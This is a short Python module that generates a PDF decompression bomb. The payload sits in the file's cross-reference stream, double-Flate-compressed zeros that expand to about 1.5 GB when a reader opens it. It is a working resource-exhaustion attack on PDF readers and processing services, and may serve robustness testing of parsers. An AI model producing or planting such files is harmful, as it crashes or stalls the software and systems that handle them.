"""PDFs of a few kilobytes whose structure unpacks to gigabytes."""

import zlib
from typing import Final

_MEGABYTES: Final = 1500
_ADLER_PRIME: Final = 65521


def xref_bomb() -> bytes:
    """A PDF whose table of objects is the bomb: a reader must unpack it to open the file."""
    bomb = _bomb()
    body = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    at = len(body)
    body += (
        b"2 0 obj\n<< /Type /XRef /W [1 4 2] /Size 3 /Root 1 0 R /Length %d "
        b"/Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(bomb)
    )
    return body + bomb + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def _bomb() -> bytes:
    """Zeros, compressed twice."""
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packing.compress(bytes(1024**2)) + packing.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    checked = ((_MEGABYTES * 1024**2) % _ADLER_PRIME << 16 | 1).to_bytes(4, "big")
    return zlib.compress(b"\x78\xda" + block * _MEGABYTES + end + checked, 9)
